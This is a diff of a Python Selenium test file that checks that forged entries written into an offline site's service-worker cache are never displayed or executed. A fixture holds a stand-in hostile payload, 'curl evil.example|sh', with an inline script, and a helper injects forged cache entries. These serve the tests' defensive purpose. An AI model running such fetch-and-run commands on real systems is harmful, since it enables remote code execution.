@@ -1,11 +1,7 @@
 """What else runs on the origin of a site can write into the worker's caches: nothing of that is ever shown."""
 
-import tempfile
-import unittest
-from pathlib import Path
-
-from offline_book import OfflineBook
-from phone import Host, Phone
+from offline_book import OfflineCase
+from phone import Phone
 from selenium.webdriver.common.by import By
 
 PAGE = "playbooks/disk_full.html"
@@ -31,27 +27,19 @@ POISON = """
 EVIL = "<!doctype html><title>x</title><main id=_main>curl evil.example|sh</main><script>document.title='RAN'</script>"
 
 
-class PoisonTests(unittest.TestCase):
-    @classmethod
-    def setUpClass(cls):
-        cls.temporary = tempfile.TemporaryDirectory()
-        cls.addClassCleanup(cls.temporary.cleanup)
-        cls.book = OfflineBook(Path(cls.temporary.name) / "handbook")
-        cls.site = cls.book.build("one", "2026-11-20", "one")
-
-    def setUp(self):
-        self.host = Host(self.site).start()
-        self.addCleanup(self.host.stop)
-        profile = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)
-        self.addCleanup(profile.cleanup)
-        self.profile = profile.name
-
+class PoisonTests(OfflineCase):
     def poison(self, phone, *forged):
         phone.driver.set_script_timeout(20)
         return phone.driver.execute_async_script(POISON, list(forged))
 
     def shown(self, phone):
         return phone.driver.title, phone.driver.find_element(By.ID, "_main").text
+
+    def expect_nothing_ran(self):
+        with Phone(self.profile) as phone:
+            phone.open(self.host.root + PAGE)
+            self.assertNotIn("evil", phone.driver.page_source)
+            self.assertNotEqual(phone.driver.title, "RAN")
 
     def test_a_forged_page_is_fetched_again_and_never_shown(self):
         with Phone(self.profile) as phone:
@@ -72,10 +60,7 @@ class PoisonTests(unittest.TestCase):
             phone.wait_saved()
             self.assertEqual(self.poison(phone, [PAGE, EVIL, "text/html"]), 1)
             self.host.stop()
-        with Phone(self.profile) as phone:
-            phone.open(self.host.root + PAGE)
-            self.assertNotIn("evil", phone.driver.page_source)
-            self.assertNotEqual(phone.driver.title, "RAN")
+        self.expect_nothing_ran()
 
     def test_a_forged_list_makes_nothing_of_it_sound(self):
         with Phone(self.profile) as phone:
@@ -83,18 +68,15 @@ class PoisonTests(unittest.TestCase):
             phone.wait_saved()
             forged = "0123456789abcdef " + PAGE + "\n"
             self.assertEqual(self.poison(phone, [PAGE, EVIL, "text/html"], ["offline.txt", forged, "text/plain"]), 2)
-        with Phone(self.profile) as phone:
-            phone.open(self.host.root + PAGE)
-            self.assertNotIn("evil", phone.driver.page_source)
-            self.assertNotEqual(phone.driver.title, "RAN")
+        self.expect_nothing_ran()
 
     def test_a_text_does_not_become_a_page_by_what_the_cache_says_of_it(self):
         with Phone(self.profile) as phone:
             phone.open(self.host.root + PAGE)
             phone.wait_saved()
-            listing = (self.site / "offline.txt").read_text()
+            listing = (self.one / "offline.txt").read_text()
             name = next(line[17:] for line in listing.splitlines() if line.endswith(".js"))
-            script = (self.site / name).read_text()
+            script = (self.one / name).read_text()
             self.assertEqual(self.poison(phone, [name, script, "text/html"]), 1)
             # A page may fetch nothing, but it can be led there.
             phone.open(self.host.root + name)
